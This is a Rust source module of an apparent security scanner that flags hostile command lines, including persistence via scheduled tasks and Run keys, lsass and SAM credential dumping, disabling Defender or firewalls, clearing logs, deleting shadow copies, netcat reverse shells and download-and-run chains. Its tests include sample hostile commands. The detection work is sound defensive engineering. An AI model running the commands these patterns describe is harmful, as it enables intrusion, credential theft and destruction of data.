//! Command lines (folded shell strings and argv lists): privilege, system
//! administration, destruction, reverse shells, download-and-run, miners.

use std::borrow::Cow;

use super::literal::shorten;
use super::needles::Grams;
use super::{pos, taxonomy, Analyzer, Node};

/// What one command of a command line does, judged from its words.
enum Stage {
    /// A rule this command alone triggers.
    Rule(&'static str),
    /// Two rules (an administration command that also persists).
    Rules(&'static str, &'static str),
    /// Starts a shell (which a socket may be wired to).
    Shell,
    Other,
}

/// Programs that read commands from their standard input, named without a
/// directory or `.exe` (a command's head is compared that way).
pub(super) const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "csh",
    "tcsh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
];

/// Windows commands that come back at logon (scheduled tasks, Run keys) or
/// start programs on other machines.
fn classify_windows(head: &str, words: &[&str]) -> Option<Stage> {
    let has = |w: &str| words.contains(&w);
    let stage = match head {
        // Windows' cron: a task that starts at logon, boot or idle, or with
        // the highest rights, comes back by itself; a daily job of the
        // user's is a schedule like any other.
        "schtasks"
            if has("/create")
                && (words.windows(2).any(|w| {
                    w[0] == "/sc" && matches!(w[1], "onlogon" | "onstart" | "onidle")
                }) || words.windows(2).any(|w| w[0] == "/rl" && w[1] == "highest")) =>
        {
            Stage::Rules("MB208", "MB906")
        }
        "reg" if has("add") && words.iter().any(|w| autostart_key(w)) => {
            Stage::Rules("MB208", "MB906")
        }
        // Programs started on another machine through its service manager,
        // PsExec or WMI.
        "sc" if has("create") && words.get(1).is_some_and(|w| w.starts_with("\\\\")) => {
            Stage::Rule("MB954")
        }
        "psexec" | "psexec64" | "paexec" if words.iter().any(|w| w.starts_with("\\\\")) => {
            Stage::Rule("MB954")
        }
        "wmic" if words.iter().any(|w| w.starts_with("/node:")) && has("create") => {
            Stage::Rule("MB954")
        }
        // Windows' usermod -aG sudo: an account put in the administrators'
        // group; an account added alone is administration.
        "net" | "net1" if words.get(1) == Some(&"localgroup") && has("/add") => {
            if has("administrators") {
                Stage::Rules("MB208", "MB906")
            } else {
                Stage::Rule("MB208")
            }
        }
        "net" | "net1" if words.get(1) == Some(&"user") && has("/add") => Stage::Rule("MB208"),
        h if dumps_credential_store(h, words) => Stage::Rule("MB965"),
        _ => return None,
    };
    Some(stage)
}

/// Windows' stores of logon secrets copied out: a process's memory dumped
/// through comsvcs.dll's MiniDump (run for lsass, where logged-on users'
/// hashes and tickets live; debuggers use their own dump tools), lsass
/// dumped by ProcDump, or the SAM and SECURITY hives saved to a file.
fn dumps_credential_store(head: &str, words: &[&str]) -> bool {
    let any = |f: &dyn Fn(&str) -> bool| words.iter().any(|w| f(w));
    match head {
        "rundll32" => any(&|w| w.contains("comsvcs")) && any(&|w| w.contains("minidump")),
        "procdump" | "procdump64" => any(&|w| w.contains("lsass")),
        "reg" => {
            words.get(1) == Some(&"save")
                && any(&|w| {
                    let w = w
                        .trim_start_matches("hkey_local_machine")
                        .trim_start_matches("hklm");
                    matches!(w, "\\sam" | "\\security")
                })
        }
        _ => false,
    }
}

/// Commands that change the host for good: scheduled or enabled at boot,
/// packages installed or removed, precious trees deleted, the container
/// runtime asked for a privileged container or the host's root.
fn classify_host(head: &str, words: &[&str]) -> Option<Stage> {
    if let Some(stage) = classify_windows(head, words) {
        return Some(stage);
    }
    let has = |w: &str| words.contains(&w);
    let stage = match head {
        "crontab"
            if words.len() > 1 && !words[1..].iter().all(|w| w.starts_with('-') && *w != "-") =>
        {
            Stage::Rules("MB208", "MB906")
        }
        "systemctl" if has("enable") => Stage::Rules("MB208", "MB906"),
        "rm" if words.iter().any(|w| w.starts_with('-') && w.contains('r'))
            && words[1..].iter().any(|w| taxonomy::precious_tree(w, true)) =>
        {
            Stage::Rule("MB907")
        }
        "find"
            if (has("-delete") || has("rm"))
                && words
                    .get(1)
                    .is_some_and(|w| taxonomy::precious_tree(w, true)) =>
        {
            Stage::Rule("MB907")
        }
        "apt" | "apt-get" | "aptitude" | "yum" | "dnf" | "zypper" | "pacman" | "apk" | "snap"
            if has("install") || has("remove") || has("purge") || has("-s") =>
        {
            Stage::Rule("MB208")
        }
        h if inhibits_recovery(h, words) => Stage::Rule("MB907"),
        "docker" | "podman" | "nerdctl"
            if (has("run") || has("create"))
                && (has("--privileged")
                    || words
                        .iter()
                        .any(|w| w.starts_with("/:") || w.starts_with("--volume=/:"))) =>
        {
            Stage::Rule("MB921")
        }
        _ => return None,
    };
    Some(stage)
}

/// Administration commands that only report: status and listings change
/// nothing, so they are not administration of the host.
fn read_only(head: &str, words: &[&str]) -> bool {
    let sub = words.get(1).copied().unwrap_or("");
    match head {
        // The user's own service manager (`--user`) changes nothing of the
        // system's: enabling a unit is judged by `classify_host`, the unit
        // by what it runs.
        "systemctl" if words.contains(&"--user") && !words.contains(&"enable") => true,
        // No verb, only options (`systemctl --failed --no-legend`): systemctl
        // then lists units, which changes nothing.
        "systemctl" if words[1..].iter().all(|w| w.starts_with('-')) => true,
        "systemctl" | "service" => words.iter().any(|w| {
            matches!(
                *w,
                "status"
                    | "is-active"
                    | "is-enabled"
                    | "is-failed"
                    | "list-units"
                    | "list-unit-files"
                    | "list-timers"
                    | "show"
                    | "cat"
                    | "--status-all"
            )
        }),
        "ufw" => sub == "status" || sub == "show",
        "iptables" | "ip6tables" => words
            .iter()
            .any(|w| matches!(*w, "-l" | "--list" | "-s" | "--list-rules")),
        "nft" => sub == "list",
        "sysctl" => !words
            .iter()
            .any(|w| w.contains('=') || *w == "-w" || *w == "-p"),
        "mount" => words.len() == 1 || sub == "-l",
        // `sudo -l` (also `-n -l`) lists the user's own rules and runs nothing.
        "sudo" => {
            let list = |w: &&str| matches!(*w, "-l" | "-ll" | "--list" | "-nl" | "-ln");
            words.iter().any(list)
                && words[1..]
                    .iter()
                    .all(|w| list(w) || matches!(*w, "-n" | "--non-interactive"))
        }
        _ => false,
    }
}

/// Switching a defence off: the firewall flushed or disabled, the audit
/// daemon or a security module stopped, a security agent killed (MB924);
/// history recording turned off or logs shredded (MB923).
fn classify_tamper(head: &str, words: &[&str]) -> Option<Stage> {
    if turns_defence_off(head, words) {
        return Some(Stage::Rule("MB924"));
    }
    erases_traces(head, words).then_some(Stage::Rule("MB923"))
}

/// `sudo -n true`, `sudo -nv`: whether sudo would run something without a
/// password, asked non-interactively of a command that does nothing. It
/// cannot prompt (`-n`), so it gains no root and captures no password;
/// status reports ask it. `-S` (a password piped in) is not this.
fn sudo_probe(args: &[&str]) -> bool {
    let quiet = args.iter().any(|a| {
        *a == "--non-interactive" || (a.starts_with('-') && !a.starts_with("--") && a.contains('n'))
    });
    quiet
        && args.iter().all(|a| {
            matches!(
                *a,
                "-n" | "-v"
                    | "-l"
                    | "-nv"
                    | "-vn"
                    | "-nl"
                    | "-ln"
                    | "--non-interactive"
                    | "--validate"
                    | "--list"
                    | "true"
                    | "/bin/true"
                    | "/usr/bin/true"
            )
        })
}

/// Whether the command `head words...` switches a defence off (MB924).
fn turns_defence_off(head: &str, words: &[&str]) -> bool {
    let has = |w: &str| words.contains(&w);
    let has_word = |w: &str| words.iter().any(|x| x.trim_matches(['"', '\'']) == w);
    let names_defence = || words[1..].iter().any(|w| taxonomy::is_defence(w));
    let stops = || {
        words
            .iter()
            .any(|w| matches!(*w, "stop" | "disable" | "mask" | "kill"))
    };
    match head {
        "systemctl" | "service" | "rc-service" | "update-rc.d" | "chkconfig" => {
            (stops() || has("off") || has("remove")) && names_defence()
        }
        "kill" | "pkill" | "killall" => names_defence(),
        "setenforce" => has("0") || has("permissive"),
        "ufw" => has("disable") || (has("default") && has("allow")),
        "iptables" | "ip6tables" => {
            has("-f") || has("--flush") || has("-x") || (has("-p") && has("accept"))
        }
        "nft" => has("flush") || (has("delete") && has("table")),
        "auditctl" => has("-d") || (has("-e") && has("0")),
        "aa-teardown" | "aa-disable" | "aa-complain" => true,
        "apparmor_parser" => has("-r") || has("--remove"),
        // Windows: the firewall switched off, Defender told to stop looking
        // or to skip a path, UAC's admin approval turned off.
        "netsh" => {
            (has("advfirewall") && has("state") && has("off"))
                || (has("firewall") && (has("disable") || has("mode=disable")))
        }
        // macOS: Gatekeeper switched off, or a file's quarantine mark (what
        // makes Gatekeeper check a download before it first runs) removed.
        "spctl" => has("--master-disable") || has("--global-disable"),
        "xattr" => {
            words
                .iter()
                .any(|w| w.starts_with("-d") || w.starts_with("-c"))
                && has_word("com.apple.quarantine")
        }
        "reg" => has("add") && has_word("enablelua") && words.windows(2).any(|w| w == ["/d", "0"]),
        _ => windows_defender_off(words),
    }
}

/// Whether the command `head words...` erases the traces of what was done:
/// logs cleared or shredded, history recording turned off (MB923).
fn erases_traces(head: &str, words: &[&str]) -> bool {
    let has = |w: &str| words.contains(&w);
    match head {
        // Windows: event logs cleared, the NTFS change journal deleted.
        "wevtutil" => has("cl") || has("clear-log"),
        "fsutil" => has("deletejournal"),
        // Windows: the audit policy wiped or switched off, the event log
        // service disabled or stopped: nothing is recorded from then on.
        "auditpol" => {
            has("/clear") || has("/remove") || words.iter().any(|w| w.ends_with(":disable"))
        }
        "sc" | "net" => {
            words
                .iter()
                .any(|w| w.trim_matches(['"', '\'']) == "eventlog")
                && (has("stop") || has("disabled"))
        }
        _ if has("clear-eventlog") || has("remove-eventlog") => true,
        "history" => has("-c"),
        "unset" => words.iter().any(|w| w.starts_with("hist")),
        "rm" | "shred" | "truncate" | "unlink" => words[1..]
            .iter()
            .any(|w| !w.starts_with('-') && taxonomy::trace(w)),
        h => h.starts_with("histfile=") || h.starts_with("histsize=0"),
    }
}

/// Defender's PowerShell settings (a command line of its own, or words of a
/// `powershell -c "..."` line): real-time, behaviour or download scanning
/// disabled (`Set-MpPreference -Disable...`), or a path, process or
/// extension excluded from scanning (`Add-MpPreference -Exclusion...`).
fn windows_defender_off(words: &[&str]) -> bool {
    fn bare(w: &str) -> &str {
        w.trim_matches(['"', '\''])
    }
    // Both cmdlets below end in `mppreference`: a command without that
    // word is not unquoted word by word (this is asked of every command).
    if !words.iter().any(|w| w.contains("mppreference")) {
        return false;
    }
    let has = |x: &str| words.iter().any(|w| bare(w) == x);
    // `-DisableRealtimeMonitoring $false` turns protection back on.
    let disables = || {
        words.iter().enumerate().any(|(i, w)| {
            let next = words.get(i + 1).map_or("", |n| bare(n));
            bare(w).starts_with("-disable")
                && !bare(w).ends_with(":$false")
                && !matches!(next, "$false" | "0" | "false")
        })
    };
    let excludes = || words.iter().any(|w| bare(w).starts_with("-exclusion"));
    (has("set-mppreference") && disables()) || (has("add-mppreference") && excludes())
}

/// Recovery taken away before damage: every shadow copy deleted (not a
/// rotation of the oldest), the backup catalogue deleted, boot recovery
/// switched off. What ransomware and wipers do first (MB907).
fn inhibits_recovery(head: &str, words: &[&str]) -> bool {
    let has = |w: &str| words.contains(&w);
    match head {
        "vssadmin" => {
            has("delete") && has("shadows") && !words.iter().any(|w| w.starts_with("/oldest"))
        }
        "wmic" => has("shadowcopy") && has("delete"),
        "wbadmin" => has("delete") && (has("catalog") || has("systemstatebackup")),
        "bcdedit" => has("recoveryenabled") && has("no"),
        _ => false,
    }
}

/// Granting root: accounts with uid 0 or put in administrators' groups
/// (MB906, account tampering), root capabilities or the setuid bit on a
/// shell, an interpreter or a temporary file (MB928).
fn classify_privilege(head: &str, words: &[&str]) -> Option<Stage> {
    const ADMIN_GROUPS: &[&str] = &[
        "sudo", "wheel", "admin", "root", "docker", "disk", "adm", "lxd", "shadow", "libvirt",
    ];
    const ROOT_CAPS: &[&str] = &[
        "cap_setuid",
        "cap_setgid",
        "cap_sys_admin",
        "cap_dac_override",
        "cap_dac_read_search",
        "cap_sys_ptrace",
        "cap_sys_module",
        "cap_fowner",
        "cap_chown",
    ];
    let has = |w: &str| words.contains(&w);
    let admin_group = || {
        words[1..].iter().any(|w| {
            w.split(',')
                .any(|g| ADMIN_GROUPS.contains(&g.trim_matches(|c| c == '\'' || c == '"')))
        })
    };
    let uid0 = || {
        words
            .windows(2)
            .any(|w| matches!(w[0], "-u" | "--uid") && w[1] == "0")
    };
    let account = match head {
        "usermod" => {
            ((has("-g") || has("-ag") || has("-a") || has("--groups")) && admin_group()) || uid0()
        }
        "gpasswd" => (has("-a") || has("--add") || has("-m")) && admin_group(),
        "adduser" | "addgroup" => words.len() == 3 && admin_group(),
        "useradd" => uid0() || has("-o") || (has("-g") && admin_group()),
        _ => false,
    };
    if account {
        return Some(Stage::Rules("MB208", "MB906"));
    }
    if head == "setcap"
        && words
            .iter()
            .any(|w| ROOT_CAPS.iter().any(|c| w.contains(c)))
    {
        return Some(Stage::Rules("MB208", "MB928"));
    }
    if head == "chmod"
        && words.get(1).is_some_and(|m| setuid_mode(m))
        && words[2..].iter().any(|w| taxonomy::root_shell_target(w))
    {
        return Some(Stage::Rule("MB928"));
    }
    let copies = matches!(head, "scp" | "rsync" | "sftp" | "pscp" | "sshpass");
    if copies && has("<self>") && words.iter().any(|w| w.contains(':')) {
        return Some(Stage::Rule("MB926"));
    }
    None
}

/// The command `sudo`, `doas` or `pkexec` runs, past their options (and
/// the values `-u`, `-g`, `-C`, `-p` take).
fn elevated<'w>(words: &'w [&'w str]) -> Option<&'w [&'w str]> {
    let head = words.first()?.rsplit('/').next()?;
    if !matches!(head, "sudo" | "doas" | "pkexec") {
        return None;
    }
    let mut i = 1;
    while let Some(w) = words.get(i).filter(|w| w.starts_with('-')) {
        i += if matches!(*w, "-u" | "-g" | "-c" | "-p" | "--user" | "--group") {
            2
        } else {
            1
        };
    }
    words.get(i..).filter(|rest| !rest.is_empty())
}

/// `nsenter -t 1`, `--target=1`: the namespaces of process 1, the host's
/// init when the container shares the host's process table.
fn enters_init(words: &[&str]) -> bool {
    words.windows(2).any(|w| {
        matches!(w[0], "-t" | "--target") && w[1] == "1" || matches!(w[0], "-t1" | "--target=1")
    })
}

/// ssh's options that take a value, lower-cased.
const SSH_VALUED: &[&str] = &[
    "-o", "-p", "-i", "-l", "-j", "-b", "-c", "-d", "-e", "-r", "-w", "-m",
];

/// The command a wrapper runs elsewhere, judged as if run here: `ssh
/// [options] HOST CMD...` on another machine (`ssh h sudo -n sh -c ..`
/// gains root there), `nsenter [options] [--] CMD...` in other
/// namespaces. Options that take a value skip it.
fn carried<'w>(words: &'w [&'w str]) -> Option<&'w [&'w str]> {
    let head = words.first()?.rsplit('/').next()?;
    let (valued, hosted): (&[&str], bool) = match head {
        // Lower-cased: `-j` is `-J`, `-d` `-D`, `-r` `-R` (each takes a
        // value); `-f`, `-q` and `-s` are left as flags, their commoner case.
        "ssh" => (SSH_VALUED, true),
        "nsenter" => (
            &["-t", "--target", "-s", "-g", "--setuid", "--setgid"],
            false,
        ),
        _ => return None,
    };
    let mut i = 1;
    while let Some(w) = words.get(i).filter(|w| w.starts_with('-')) {
        if *w == "--" {
            i += 1;
            break;
        }
        i += if valued.contains(w) { 2 } else { 1 };
    }
    // ssh's first plain word is the host; the rest runs there.
    i += usize::from(hosted);
    words.get(i..).filter(|rest| !rest.is_empty())
}

/// Registry keys whose values Windows runs at logon or start-up (Run,
/// RunOnce, Winlogon's shell and userinit, debuggers attached by Image File
/// Execution Options), lower-cased.
pub(super) fn autostart_key(k: &str) -> bool {
    let k = k.to_ascii_lowercase();
    [
        "\\currentversion\\run",
        "\\currentversion\\winlogon",
        "\\image file execution options",
        "\\policies\\explorer\\run",
    ]
    .iter()
    .any(|p| k.contains(p))
}

/// A chmod mode that sets the setuid or setgid bit: `u+s`, `4755`, `2755`, `6755`.
fn setuid_mode(m: &str) -> bool {
    m.contains("+s")
        || (m.len() == 4 && (m.starts_with('4') || m.starts_with('2') || m.starts_with('6')))
}

/// A program's name as a command names it: without its folder (POSIX or
/// Windows), lower-cased, without `.exe`.
pub(super) fn program_name(path: &str) -> String {
    let base = path
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(path)
        .to_ascii_lowercase();
    match base.strip_suffix(".exe") {
        Some(b) => b.to_string(),
        None => base,
    }
}

/// [`program_name`], borrowed when the word needs no change of case (a
/// command's words are lower-cased already): `classify` asks it of every
/// command's head, and a copy each time was an allocation per command.
pub(super) fn program_word(path: &str) -> Cow<'_, str> {
    let base = path.rsplit(['/', '\\']).next().unwrap_or(path);
    if base.bytes().any(|b| b.is_ascii_uppercase()) {
        return Cow::Owned(program_name(path));
    }
    Cow::Borrowed(base.strip_suffix(".exe").unwrap_or(base))
}

/// Classifies one command (lower-cased words, the first being the program).
fn classify(words: &[&str]) -> Stage {
    let Some(head) = words.first() else {
        return Stage::Other;
    };
    let head = program_word(head);
    let head = head.as_ref();
    if let Some(stage) = classify_tamper(head, words).or_else(|| classify_privilege(head, words)) {
        return stage;
    }
    if read_only(head, words) {
        return Stage::Other;
    }
    // Whether the arguments, joined by spaces, contain `p`: `p` holds no
    // space, so it is inside one word (the join was a copy per command).
    let rest_has = |p: &str| words[1..].iter().any(|w| w.contains(p));
    let wipes_root = || {
        words.iter().any(|w| w.starts_with('-') && w.contains('r'))
            && words
                .iter()
                .any(|w| matches!(*w, "/" | "/*" | "~" | "~/" | "$home" | "--no-preserve-root"))
    };
    let onto_disk = || {
        words
            .iter()
            .any(|w| w.starts_with("of=/dev/") && !w.starts_with("of=/dev/null"))
    };
    if let Some(stage) = classify_host(head, words) {
        return stage;
    }
    match head {
        // Listing one's crontab changes nothing.
        "crontab" if words[1..] == ["-l"] => Stage::Other,
        // `visudo -c` checks the policy's syntax and edits nothing.
        "visudo" if words[1..].iter().any(|w| *w == "-c" || *w == "--check") => Stage::Other,
        "sudo" | "su" | "pkexec" | "doas" => Stage::Rule("MB204"),
        "nsenter" if enters_init(words) => Stage::Rule("MB971"),
        "useradd" | "adduser" | "usermod" | "passwd" | "chpasswd" | "visudo" | "iptables"
        | "ip6tables" | "nft" | "ufw" | "setenforce" | "insmod" | "rmmod" | "modprobe"
        | "sysctl" | "crontab" | "systemctl" | "mount" | "umount" | "chattr" | "setcap" => {
            Stage::Rule("MB208")
        }
        "chmod" if rest_has("+s") || words.get(1).is_some_and(|m| setuid_mode(m)) => {
            Stage::Rule("MB203")
        }
        h if SHELLS.contains(&h) => Stage::Shell,
        "rm" if wipes_root() => Stage::Rule("MB907"),
        // blkdiscard tells the drive every block is free: on an SSD the
        // data is gone at once, as with a new file system.
        "mkfs" | "wipefs" | "shred" | "blkdiscard" => Stage::Rule("MB907"),
        h if h.starts_with("mkfs.") => Stage::Rule("MB907"),
        "dd" if onto_disk() => Stage::Rule("MB907"),
        "nc" | "ncat" | "netcat" | "nc.traditional"
            if words.iter().any(|w| *w == "-e" || *w == "-c") =>
        {
            Stage::Rule("MB901")
        }
        "socat" if rest_has("exec:") => Stage::Rule("MB901"),
        _ => Stage::Other,
    }
}

/// The rule a command (lower-cased words) breaks when it erases traces,
/// disables a defence or takes recovery away (MB923, MB924, MB907): the
/// stages that need no further context to be judged.
pub(super) fn covering_tracks(words: &[&str]) -> Option<&'static str> {
    match classify(words) {
        Stage::Rule(r @ ("MB923" | "MB924" | "MB907")) => Some(r),
        _ => None,
    }
}

impl<'t> Analyzer<'t> {
    pub(super) fn check_command(&mut self, cmd: &str, node: Node<'t>) {
        let lower = cmd.to_ascii_lowercase();
        // One buffer for every stage's words, not a vector per stage.
        let mut words: Vec<&str> = Vec::new();
        let chained = lower.contains(['&', '|', ';', '\n', '`']);
        for seg in lower.split(['&', '|', ';', '\n', '`', '(', ')']) {
            words.clear();
            words.extend(seg.split_whitespace());
            // A sudo probe run on its own reports; chained in a shell line
            // (`sudo -n true && ...`) it decides what runs as root next.
            if !chained && words.first() == Some(&"sudo") && sudo_probe(&words[1..]) {
                continue;
            }
            self.judge_with_root(&words, seg, node);
            self.note_command_steps(&words, node);
            // `ssh host sudo -n ..`, `nsenter -t 1 -- rm ..`: what runs on
            // the other machine or in the other namespaces, root included.
            if let Some(inner) = carried(&words) {
                // `ssh h 'sudo -S reboot'`: the remote line's own quotes.
                let inner: Vec<&str> = inner.iter().map(|w| w.trim_matches(['\'', '"'])).collect();
                self.judge_with_root(&inner, seg, node);
            }
            if let Some(src) = super::supply::untrusted_pip_source(&words) {
                let detail = format!("runs `{}`: installs from {src}", shorten(seg.trim()));
                self.add("MB432", node, detail);
            }
        }
        if prints_secrets(&lower) {
            // Like reading the store's file (MB205): what it prints is every
            // secret kept there.
            let detail = format!("runs `{}`: prints stored secrets", shorten(cmd.trim()));
            self.add("MB205", node, detail);
            self.facts.creds.get_or_insert(super::pos(node));
        }
        self.check_command_line(&lower, node);
        self.check_redirects(&lower, node);
        if let Some(script) = powershell_encoded(cmd) {
            self.check_command(&script, node);
        }
    }

    /// One command's words judged, and what it runs as root (`sudo -n
    /// chmod 4755 f`) judged too.
    fn judge_with_root(&mut self, words: &[&str], seg: &str, node: Node<'t>) {
        self.judge_words(words, seg, node);
        if let Some(inner) = elevated(words) {
            self.judge_words(inner, seg, node);
        }
    }

    /// The ransomware steps a command takes (see `ransom.rs`): files
    /// deleted (`rm`, `del`), or packed into an archive under a password
    /// (`zip -P`, `7z a -p..`) or encrypted (`gpg -c`, `openssl enc`),
    /// which is their contents scrambled and written beside them.
    fn note_command_steps(&mut self, words: &[&str], node: Node<'t>) {
        let Some(head) = words.first().map(|h| program_word(h)) else {
            return;
        };
        let has = |f: &dyn Fn(&str) -> bool| words[1..].iter().any(|w| f(w));
        let scrambles = match head.as_ref() {
            "zip" => has(&|w| matches!(w, "-p" | "-e" | "--password" | "--encrypt")),
            "7z" | "7za" | "7zr" => has(&|w| w.starts_with("-p")),
            "gpg" | "gpg2" => has(&|w| matches!(w, "-c" | "--symmetric" | "-e" | "--encrypt")),
            "openssl" => words.get(1) == Some(&"enc"),
            "rm" | "del" | "erase" | "unlink" | "shred" => {
                self.signs.deletes.get_or_insert(node);
                false
            }
            _ => false,
        };
        if scrambles {
            self.signs.scrambled_write.get_or_insert((node, false));
        }
    }

    /// Whether some literal is a URL or a command that fetches (`curl`,
    /// `wget`): what a scheduled job would reach out to.
    pub(super) fn names_remote_literal(&self) -> bool {
        // The literals do not change: searched once, not at each command.
        *self.remote_literal.get_or_init(|| {
            self.lowered()
                .texts
                .iter()
                .any(|(_, v)| v.contains("://") || super::exfil::mentions_net_tool(v))
        })
    }

    /// The finding one command's words make.
    fn judge_words(&mut self, words: &[&str], seg: &str, node: Node<'t>) {
        let runs = || format!("runs `{}`", shorten(seg.trim()));
        match classify(words) {
            // A unit of the user's own service manager enabled by a script
            // that sets up the user's own machine (see `own_setup_script`).
            Stage::Rules("MB208", "MB906")
                if words.first() == Some(&"systemctl")
                    && words.contains(&"--user")
                    && self.own_setup_script() =>
            {
                let detail = format!("{}: enables a unit of the user's own", runs());
                self.add("MB224", node, detail);
            }
            // The user's crontab replaced once the user saw it and said
            // yes, by a script of the user's own setup whose literals name
            // nothing remote: the user's own scheduled job.
            Stage::Rules("MB208", "MB906")
                if words.first() == Some(&"crontab")
                    && self.asked_before(node)
                    && self.own_setup_script()
                    && !self.names_remote_literal() =>
            {
                let detail = format!("{}: the user's own crontab, after asking", runs());
                self.add("MB224", node, detail);
            }
            // The script re-run through sudo once the user said yes: the
            // user asked for root, and sudo asks for the password again.
            Stage::Rule("MB204") if words.contains(&"<self>") && self.asked_before(node) => {
                let detail = format!("{}: re-runs itself as root after asking", runs());
                self.add("MB229", node, detail);
            }
            Stage::Rule(rule) => self.add(rule, node, runs()),
            Stage::Rules(a, b) => {
                self.add(a, node, runs());
                self.add(b, node, runs());
            }
            Stage::Shell => {
                self.facts.shell_spawn.get_or_insert(pos(node));
            }
            Stage::Other => {}
        }
    }

    /// `echo b > /proc/sysrq-trigger`: a file a shell redirect writes is
    /// judged like any other write (kernel triggers, persistence, system
    /// paths). Descriptor duplications (`2>&1`) write no file.
    fn check_redirects(&mut self, lower: &str, node: Node<'t>) {
        // Every redirect has a `>`: a line without one is not split.
        if !lower.contains('>') {
            return;
        }
        let words: Vec<&str> = lower.split_whitespace().collect();
        for (i, w) in words.iter().enumerate() {
            let target = match w.trim_start_matches(['1', '2']) {
                ">" | ">>" => words.get(i + 1).copied(),
                t if t.starts_with('>') => Some(t.trim_start_matches('>')),
                _ => None,
            };
            let Some(t) = target.filter(|t| t.starts_with('/')) else {
                continue;
            };
            let t = t.trim_end_matches([';', '&', '|', ')']);
            self.judge_path(t, "shell redirect to", node);
        }
    }

    /// Shapes that span the whole (lower-cased) command line.
    pub(super) fn check_command_line(&mut self, lower: &str, node: Node<'t>) {
        // One fingerprint of the line's byte pairs turns away the needles
        // it cannot hold: sixteen `str::contains`, each setting a searcher
        // up, were most of this function's cost on every command line.
        let g = Grams::of(lower);
        let has = |needle: &str| g.contains(lower, needle);
        if has("/dev/tcp/") || has("/dev/udp/") || (has("mkfifo") && has("nc ")) {
            self.add("MB901", node, "shell redirection to a network socket");
        }
        if (has("curl") || has("wget")) && PIPED_INTERPRETERS.iter().any(|p| has(p)) {
            self.add("MB908", node, "remote script piped into an interpreter");
        }
        self.check_exfil_command(lower, &g, node);
        if let Some(path) = downloaded_then_run(lower, &g) {
            self.add(
                "MB915",
                node,
                format!("downloads {path}, then makes it executable or runs it"),
            );
        }
        if has(":(){") || has(":() {") {
            self.add("MB902", node, "shell fork bomb");
        }
        if has("xmrig") || has("stratum+") {
            self.add("MB905", node, "miner in a command");
        }
    }
}

/// A download piped into an interpreter, as a command line spells it.
const PIPED_INTERPRETERS: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "| /bin/sh",
    "|/bin/sh",
    "| /bin/bash",
    "|/bin/bash",
];

/// The script `powershell -EncodedCommand <base64>` runs (UTF-16LE under
/// the base64; PowerShell takes any prefix of the switch, `-enc`, `-e`):
/// hidden from the command line, and judged like one.
fn powershell_encoded(cmd: &str) -> Option<String> {
    let mut words = cmd.split_whitespace();
    let program = program_name(words.next()?.trim_matches(['"', '\'']));
    if !matches!(program.as_str(), "powershell" | "pwsh") {
        return None;
    }
    let switch = |w: &str| {
        let w = w.to_ascii_lowercase();
        let w = w.trim_start_matches(['-', '/']);
        (!w.is_empty() && "encodedcommand".starts_with(w)) || w == "ec"
    };
    let mut words = words.skip_while(|w| !switch(w));
    words.next()?;
    let raw = super::literal::b64decode(words.next()?.trim_matches(['"', '\'']))?;
    let units: Vec<u16> = raw
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let script = String::from_utf16(&units).ok()?;
    // Shorter than its encoding: a decoded script cannot lead back here
    // for ever.
    (!script.trim().is_empty() && script.len() < cmd.len()).then_some(script)
}

/// Does the (lower-cased) command line print stored secrets: the whole
/// macOS keychain dumped, a browser's or chat app's "Safe Storage" key (what
/// decrypts its saved passwords and cookies) asked of the keychain or of the
/// desktop secret service? A program's own token fetched by name is not.
pub(super) fn prints_secrets(lower: &str) -> bool {
    let words: Vec<&str> = lower.split_whitespace().collect();
    let head = words.first().map(|h| h.rsplit('/').next().unwrap_or(h));
    match head {
        Some("security") => {
            words.contains(&"dump-keychain")
                || (words.iter().any(|w| w.ends_with("-password"))
                    && lower.contains("safe storage"))
        }
        Some("secret-tool") => lower.contains("safe storage") || words.contains(&"--all"),
        _ => false,
    }
}

/// The programs whose saved downloads [`downloaded_then_run`] follows.
const FETCHERS: &[&str] = &["wget", "curl"];

/// A command line that saves a download (`wget -O p`, `curl -o p`) and
/// then makes that file executable or runs it.
fn downloaded_then_run(lower: &str, g: &Grams) -> Option<String> {
    // Nothing is saved without a stage headed by a fetcher, and a stage's
    // head is part of the line: a line without one is not split into its
    // stages' words.
    if !FETCHERS.iter().any(|f| g.contains(lower, f)) {
        return None;
    }
    let mut saved: Option<String> = None;
    let mut words: Vec<&str> = Vec::new();
    for seg in lower.split(['&', '|', ';', '\n']) {
        words.clear();
        words.extend(seg.split_whitespace());
        let Some(head) = words.first().map(|h| h.rsplit('/').next().unwrap_or(h)) else {
            continue;
        };
        if FETCHERS.contains(&head) {
            let out = words
                .windows(2)
                .find(|w| matches!(w[0], "-o" | "--output" | "--output-document"))
                .map(|w| w[1].to_string());
            saved = out.or(saved);
            continue;
        }
        let Some(p) = saved.as_deref() else { continue };
        let runs = words.first() == Some(&p)
            || (matches!(head, "nohup" | "setsid" | "exec" | "sh" | "bash")
                && words.get(1) == Some(&p))
            || (head == "chmod" && words.last() == Some(&p));
        if runs {
            return Some(p.to_string());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{downloaded_then_run, windows_defender_off, Grams};

    /// The gate on `mppreference` keeps Defender's settings, quoted or not.
    #[test]
    fn defender_switched_off() {
        let off = |l: &str| windows_defender_off(&l.split_whitespace().collect::<Vec<_>>());
        assert!(off("set-mppreference -disablerealtimemonitoring $true"));
        assert!(off(
            "powershell \"set-mppreference\" '-disableioavprotection' 1"
        ));
        assert!(off("add-mppreference -exclusionpath c:\\temp"));
        assert!(!off("set-mppreference -disablerealtimemonitoring $false"));
        assert!(!off("get-mppreference"));
        assert!(!off("rm -rf /tmp/x"));
    }

    /// The gate on `wget` and `curl` keeps every download that is run,
    /// the program named by path too.
    #[test]
    fn downloads_then_runs() {
        let found = |l: &str| downloaded_then_run(l, &Grams::of(l));
        assert_eq!(
            found("wget -o /tmp/x http://h/x; chmod +x /tmp/x").as_deref(),
            Some("/tmp/x")
        );
        assert_eq!(
            found("curl -o /tmp/y http://h/y && /tmp/y").as_deref(),
            Some("/tmp/y")
        );
        assert_eq!(found("/usr/bin/curl -o a u; sh a").as_deref(), Some("a"));
        assert_eq!(found("cp a b; chmod +x b"), None);
        assert_eq!(found("curl -o a u"), None);
    }
}
